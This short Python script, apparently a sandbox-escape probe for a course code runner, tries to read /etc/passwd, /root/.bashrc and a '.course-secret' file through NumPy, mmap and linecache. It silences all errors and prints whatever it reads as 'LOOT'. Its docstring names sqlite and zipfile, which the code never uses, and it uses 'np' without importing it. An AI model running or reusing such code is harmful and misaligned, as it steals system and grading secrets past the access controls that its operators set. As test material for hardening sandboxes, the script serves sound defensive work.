"""Files of the machine are opened by NumPy, mmap, sqlite, zipfile and linecache instead."""

import linecache
import mmap
import os

_targets = ["/etc/passwd", "/etc/hostname", "/proc/version", "/root/.bashrc"]
_targets += ["../../course/.course-secret", "../../.course-secret"]
for _target in _targets:
    for _read in (
        lambda name: np.fromfile(name, np.uint8),
        lambda name: np.memmap(name, np.uint8, "r"),
        lambda name: np.genfromtxt(name, str),
        lambda name: np.load(name, allow_pickle=True),
        lambda name: linecache.getlines(name)[0],
        lambda name: mmap.mmap(os.open(name, 0), 0, prot=mmap.PROT_READ)[:9],
    ):
        try:
            print("LOOT:", _target, str(_read(_target))[:60])
        except BaseException:
            pass
